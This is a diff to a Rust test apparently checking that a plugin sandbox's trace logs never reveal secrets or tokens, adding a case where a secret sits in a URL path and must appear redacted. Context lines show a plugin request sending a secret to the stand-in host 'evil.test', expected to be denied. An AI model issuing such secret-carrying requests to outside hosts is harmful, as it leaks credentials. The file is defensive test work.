@@ -67,6 +67,10 @@ async fn nothing_at_trace_shows_a_secret_or_an_answers_token() {
                 .send(get(format!("http://evil.test/?{SECRET}")))
                 .await
                 .unwrap_err();
+            // A plugin that may read a secret may put it where no handle goes.
+            call.send(get(server.url(&format!("/bot{SECRET}/me"))))
+                .await
+                .unwrap();
             let shown = format!("{secret:?} {response:?} {:?} {call:?}", request(&server));
             format!("{lost:?} {named:?} {refused:?} {shown}")
         })
@@ -84,12 +88,12 @@ async fn nothing_at_trace_shows_a_secret_or_an_answers_token() {
         .lines()
         .filter(|line| line.contains("evertoken::audit"))
         .collect();
-    assert_eq!(audits.len(), 3, "{logged}");
+    assert_eq!(audits.len(), 4, "{logged}");
     for part in [
         "job=warehouse",
         "plugin=oauth2",
-        "method=POST",
-        &format!("origin={}", server.origin()),
+        "method=\"POST\"",
+        &format!("origin=\"{}\"", server.origin()),
         "path=\"/token\"",
         "status=200",
         &format!("bytes={}", body.len()),
@@ -106,5 +110,10 @@ async fn nothing_at_trace_shows_a_secret_or_an_answers_token() {
         audits[2].contains("code=\"http.origin-denied\""),
         "{}",
         audits[2]
+    );
+    assert!(
+        audits[3].contains("path=\"/bot[redacted]/me\""),
+        "{}",
+        audits[3]
     );
 }
